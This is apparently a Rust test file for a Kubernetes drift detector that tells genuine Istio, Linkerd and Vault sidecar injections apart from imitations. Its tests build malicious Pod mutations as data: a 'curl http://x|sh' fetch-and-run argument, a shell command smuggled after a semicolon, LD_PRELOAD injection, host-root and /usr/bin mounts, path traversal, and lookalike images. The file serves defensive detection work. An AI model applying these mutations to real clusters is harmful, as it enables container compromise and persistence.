use serde_json::{Value, json};

use super::*;
use crate::lineage::{Drift, drift};
use crate::workload::Pod;

/// The part of the file that is read here.
#[derive(serde::Deserialize)]
struct Configuration {
    injectors: Vec<InjectorConfiguration>,
}

const ISTIO: &str = include_str!("../../../tests/data/lineage/istio-native-sidecar.yaml");
const ISTIO_CNI: &str = include_str!("../../../tests/data/lineage/istio-cni.yaml");
const LINKERD: &str = include_str!("../../../tests/data/lineage/linkerd-container.yaml");
const LINKERD_SIDECAR: &str = include_str!("../../../tests/data/lineage/linkerd-native-sidecar.yaml");
const VAULT: &str = include_str!("../../../tests/data/lineage/vault-agent.yaml");
const VAULT_CHOSEN: &str = include_str!("../../../tests/data/lineage/vault-agent-chosen.yaml");

fn read(text: &str) -> Value {
    serde_saphyr::from_str(text).unwrap()
}

fn judged(case: &Value, injectors: &Injectors) -> Drift {
    let pod = |name: &str| Pod::from_json_of_pod(&case[name].to_string()).unwrap();
    drift(&pod("template"), &pod("pod"), injectors)
}

fn configured(yaml: &str) -> Vec<InjectorConfiguration> {
    let configuration: Configuration = serde_saphyr::from_str(yaml).unwrap();
    configuration.injectors
}

fn problems(yaml: &str) -> Vec<String> {
    Injectors::compile(&configured(yaml)).unwrap_err().iter().map(ToString::to_string).collect()
}

#[test]
fn what_injectors_add_is_recognised() {
    for text in [ISTIO, ISTIO_CNI, LINKERD, LINKERD_SIDECAR, VAULT, VAULT_CHOSEN] {
        let case = read(text);
        let found = judged(&case, &Injectors::default());
        assert_eq!(found.differences, [], "{:#?}\n{text:.200}", found.imitations);
        assert_eq!(found.injectors, [case["injector"].as_str().unwrap()]);
        assert_eq!(found.imitations, []);
        let none = judged(&case, &Injectors { all: Vec::new() });
        assert!(!none.differences.is_empty() && none.injectors.is_empty());
    }
}

/// Sets what a pointer names in the Pod; `-` at its end appends.
fn changed(text: &str, pointer: &str, value: Value) -> Value {
    let mut case = read(text);
    let (parent, name) = pointer.rsplit_once('/').unwrap();
    let parent = case.pointer_mut(&format!("/pod/spec{parent}")).unwrap();
    match (name, &mut *parent) {
        ("-", Value::Array(list)) => list.push(value),
        (name, Value::Array(list)) => list[name.parse::<usize>().unwrap()] = value,
        (name, parent) => parent[name] = value,
    }
    case
}

#[test]
fn imitations_are_drift_and_say_what_differs() {
    let run = json!(["-c", "curl http://x|sh"]);
    let preload = json!({"name": "LD_PRELOAD", "value": "/var/lib/istio/data/x.so"});
    let secret = json!({"name": "ISTIO_META_X", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}});
    let over = |volume: &str| json!({"name": volume, "mountPath": "/usr/local/bin"});
    let node = json!({"name": "istio-envoy", "hostPath": {"path": "/"}});
    for (text, pointer, value, path, reason) in [
        (ISTIO, "/initContainers/1/image", json!("docker.io/evil/proxyv2:1.27.1"), "initContainers[1].image", "images"),
        (ISTIO, "/initContainers/1/image", json!("docker.io/istio/proxyv3"), "initContainers[1].image", "images"),
        (ISTIO, "/initContainers/1/image", json!("istio.io/istio/proxyv2"), "initContainers[1].image", "images"),
        (ISTIO, "/initContainers/1/command", json!(["/bin/sh"]), "initContainers[1].command", "does not run"),
        (ISTIO, "/initContainers/1/args", run, "initContainers[1].args", "does not run"),
        (ISTIO, "/initContainers/1/env/-", preload, "initContainers[1].image", "LD_PRELOAD"),
        (ISTIO, "/initContainers/1/env/-", secret, "initContainers[1].image", "ISTIO_META_X"),
        (ISTIO, "/initContainers/1/volumeMounts/-", over("istio-data"), "initContainers[1].image", "does not mount"),
        (ISTIO, "/initContainers/1/securityContext/privileged", json!(true), "securityContext", "never privileged"),
        (ISTIO, "/initContainers/1/securityContext/runAsUser", json!(0), "securityContext", "root"),
        (ISTIO, "/initContainers/1/securityContext/procMount", json!("Unmasked"), "securityContext", "another"),
        (
            ISTIO,
            "/initContainers/0/securityContext/capabilities/add/-",
            json!("SYS_ADMIN"),
            "securityContext",
            "SYS_ADMIN",
        ),
        (
            ISTIO,
            "/initContainers/1/envFrom",
            json!([{"secretRef": {"name": "s"}}]),
            "initContainers[1].image",
            "whole ConfigMaps",
        ),
        (ISTIO, "/initContainers/1/workingDir", json!("/tmp"), "initContainers[1].image", "working directory"),
        (ISTIO, "/initContainers/1/ports", json!([{"hostPort": 1}]), "initContainers[1].image", "ports of the node"),
        (
            ISTIO,
            "/initContainers/1/startupProbe",
            json!({"exec": {"command": ["sh"]}}),
            "initContainers[1].image",
            "another",
        ),
        (ISTIO, "/initContainers/1/restartPolicy", json!(null), "initContainers[1].name", "an init container"),
        (ISTIO, "/volumes/3", node, "volumes[istio-envoy]", "another kind"),
        (ISTIO, "/volumes/7/configMap/name", json!("other"), "volumes[istiod-ca-cert]", "other"),
        (LINKERD, "/containers/0/args", json!(["/bin/sh"]), "containers[0].args", "does not run"),
        (LINKERD, "/initContainers/0/image", json!("cr.l5d.io.evil.io/linkerd/proxy-init"), "image", "images"),
        (VAULT, "/containers/0/volumeMounts/0/mountPath", json!("/usr/bin"), "volumeMounts[/usr/bin]", "/usr/bin"),
        (VAULT, "/containers/0/volumeMounts/0/mountPath", json!("/vault/secrets/../../usr/bin"), "usr/bin", "usr/bin"),
        (VAULT, "/containers/0/volumeMounts/0/subPath", json!("x"), "volumeMounts[/vault/secrets]", "/vault/secrets"),
        (VAULT, "/containers/1/args/0", json!("vault agent; sh"), "containers[1].args", "does not run"),
        (VAULT_CHOSEN, "/volumes/6/secret/secretName", json!("other"), "volumes[vault-tls-secrets]", "other"),
    ] {
        let found = judged(&changed(text, pointer, value), &Injectors::default());
        let paths: Vec<&str> = found.differences.iter().map(|difference| difference.path.as_str()).collect();
        assert!(paths.iter().any(|found| found.contains(path)), "{pointer}: {path} is not in {paths:#?}");
        let reasons: Vec<String> = found.imitations.iter().map(ToString::to_string).collect();
        assert!(reasons.iter().any(|found| found.contains(reason)), "{pointer}: {reason} is not in {reasons:#?}");
    }
}

/// The real image with the real command runs what its configuration says.
#[test]
fn a_vault_agent_that_nobody_asked_for_is_drift() {
    for asked in [json!("false"), Value::Null] {
        let mut case = read(VAULT);
        case["template"]["metadata"]["annotations"]["vault.hashicorp.com/agent-inject"] = asked;
        let found = judged(&case, &Injectors::default());
        assert!(!found.is_none() && found.injectors.is_empty());
        assert!(found.imitations[0].reason.contains("does not ask for it"), "{found:#?}");
    }
}

#[test]
fn the_name_of_a_volume_is_worth_nothing_without_the_injector() {
    let mut case = read(VAULT);
    case["pod"]["spec"]["initContainers"].as_array_mut().unwrap().pop();
    case["pod"]["spec"]["containers"].as_array_mut().unwrap().pop();
    let found = judged(&case, &Injectors::default());
    assert!(found.injectors.is_empty());
    assert!(found.differences.iter().any(|d| d.path == "spec.volumes[vault-secrets]"), "{found:#?}");
    assert!(
        found.differences.iter().any(|d| d.path == "spec.containers[0].volumeMounts[/vault/secrets]"),
        "{found:#?}"
    );
}

#[test]
fn what_is_added_to_the_workloads_own_containers_is_drift() {
    for (pointer, value, path) in [
        ("/containers/0/env", json!([{"name": "LD_PRELOAD", "value": "x"}]), "spec.containers[0].env[LD_PRELOAD]"),
        ("/containers/0/env", json!([{"name": "ISTIO_META_X", "value": "x"}]), "spec.containers[0].env[ISTIO_META_X]"),
        (
            "/containers/0/volumeMounts/-",
            json!({"name": "istio-token", "mountPath": "/t"}),
            "spec.containers[0].volumeMounts[/t]",
        ),
        (
            "/ephemeralContainers",
            json!([{"name": "istio-proxy", "image": "istio/proxyv2", "args": ["proxy", "sidecar"]}]),
            "spec.ephemeralContainers[0].name",
        ),
    ] {
        let found = judged(&changed(ISTIO, pointer, value), &Injectors::default());
        assert!(found.differences.iter().any(|difference| difference.path == path), "{pointer}: {found:#?}");
        assert_eq!(found.injectors, ["istio"]);
    }
}

#[test]
fn an_injector_can_be_configured() {
    let mirrored = changed(ISTIO, "/initContainers/0/image", json!("r.example.com/istio/proxyv2:1"));
    let mirror =
        "injectors: [{name: istio, preset: Istio, images: [docker.io/istio/proxyv2, r.example.com/istio/proxyv2]}]";
    assert!(!judged(&mirrored, &Injectors::default()).is_none());
    assert!(judged(&mirrored, &Injectors::compile(&configured(mirror)).unwrap()).is_none());

    let token =
        json!({"name": "aws-iam-token", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}});
    let mut case = changed(ISTIO, "/volumes/-", token);
    let own = &mut case["pod"]["spec"]["containers"][0];
    own["env"] =
        json!([{"name": "AWS_ROLE_ARN", "value": "arn"}, {"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var"}]);
    let at = "/var/run/secrets/eks.amazonaws.com/serviceaccount";
    own["volumeMounts"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "aws-iam-token", "mountPath": at, "readOnly": true}));
    let example = include_str!("../../../docs/jobs.md");
    let yaml = example.split("```yaml\n").find(|block| block.starts_with("injectors:")).unwrap();
    let yaml = yaml.split("```").next().unwrap();
    let injectors = Injectors::compile(&configured(yaml)).unwrap();
    let found = judged(&case, &injectors);
    assert!(found.is_none(), "{found:#?}");
    assert_eq!(found.injectors, ["istio", "eks-pod-identity"]);
}

/// Istio comes first, and Vault adds its volume to all init containers that it finds.
#[test]
fn one_injector_adds_to_the_containers_of_another() {
    let vault = read(VAULT);
    let mut case = read(ISTIO);
    case["template"]["metadata"]["annotations"] = vault["template"]["metadata"]["annotations"].clone();
    for list in ["initContainers", "containers", "volumes"] {
        let added = vault["pod"]["spec"][list].as_array().unwrap().iter();
        let added = added.filter(|entry| {
            let name = entry["name"].as_str().unwrap();
            name.starts_with("vault") || name.starts_with("home") || name == "kube-api-access-2c9fz"
        });
        case["pod"]["spec"][list].as_array_mut().unwrap().extend(added.cloned());
    }
    let mount = json!({"name": "vault-secrets", "mountPath": "/vault/secrets"});
    for index in [0, 1] {
        let container = &mut case["pod"]["spec"]["initContainers"][index];
        container["volumeMounts"].as_array_mut().unwrap().push(mount.clone());
    }
    let found = judged(&case, &Injectors::default());
    assert!(found.is_none(), "{found:#?}");
    assert_eq!(found.injectors, ["istio", "vault-agent"]);
}

#[test]
fn the_presets_have_no_problems() {
    for preset in [Preset::Istio, Preset::Linkerd, Preset::VaultAgent] {
        let given =
            InjectorConfiguration { name: "x".to_owned(), preset: Some(preset), ..InjectorConfiguration::default() };
        assert_eq!(Injectors::compile(&[given]).map(|injectors| injectors.all.len()), Ok(4));
    }
}

#[test]
fn a_configuration_is_refused_with_all_that_is_wrong() {
    for (yaml, expected) in [
        ("{name: ''}", vec!["injectors[0].name: ", "injectors[0]: nothing says what it adds"]),
        ("{name: a, containers: [{name: c}]}", vec!["injectors[0].images: nothing says where"]),
        ("{name: a, images: ['*'], containers: [{name: c}]}", vec!["injectors[0].images[0]: repository"]),
        ("{name: a, images: [x], containers: [{name: c, env: ['*']}]}", vec!["injectors[0].containers[0].env[0]: "]),
        (
            "{name: a, images: [x], containers: [{name: '', roles: []}]}",
            vec!["injectors[0].containers[0].name: ", "injectors[0].containers[0].roles: "],
        ),
        (
            "{name: a, images: [x], containers: [{name: c, commands: [{args: ['**', x]}], hooks: [['**', x]]}]}",
            vec!["injectors[0].containers[0].commands[0].args: ", "injectors[0].containers[0].hooks[0]: "],
        ),
        (
            "{name: a, volumes: [{name: '*', kind: emptyDir, paths: [x, /x/]}]}",
            vec![
                "injectors[0].volumes[0].paths[0]: ",
                "injectors[0].volumes[0].paths[1]: ",
                "injectors[0].volumes[0].name: ",
            ],
        ),
        ("{name: a, volumes: [{name: v, kind: hostPath}]}", vec!["injectors[0].volumes[0].objects: "]),
        ("{name: a, volumes: [{name: v, kind: secret}]}", vec!["injectors[0].volumes[0].objects: "]),
        ("{name: a, preset: Istio}, {name: a, preset: Istio}", vec!["injectors[1].name: "]),
    ] {
        let found = problems(&format!("injectors: [{yaml}]"));
        assert_eq!(found.len(), expected.len(), "{yaml}: {found:#?}");
        for (found, expected) in found.iter().zip(expected) {
            assert!(found.starts_with(expected), "{yaml}: {found}");
        }
    }
    for yaml in
        ["{name: a, image: x}", "{name: a, preset: Unknown}", "{name: a, containers: [{name: c, roles: [ephemeral]}]}"]
    {
        let read: Result<Configuration, _> = serde_saphyr::from_str(&format!("injectors: [{yaml}]"));
        assert!(read.is_err(), "{yaml}");
    }
}
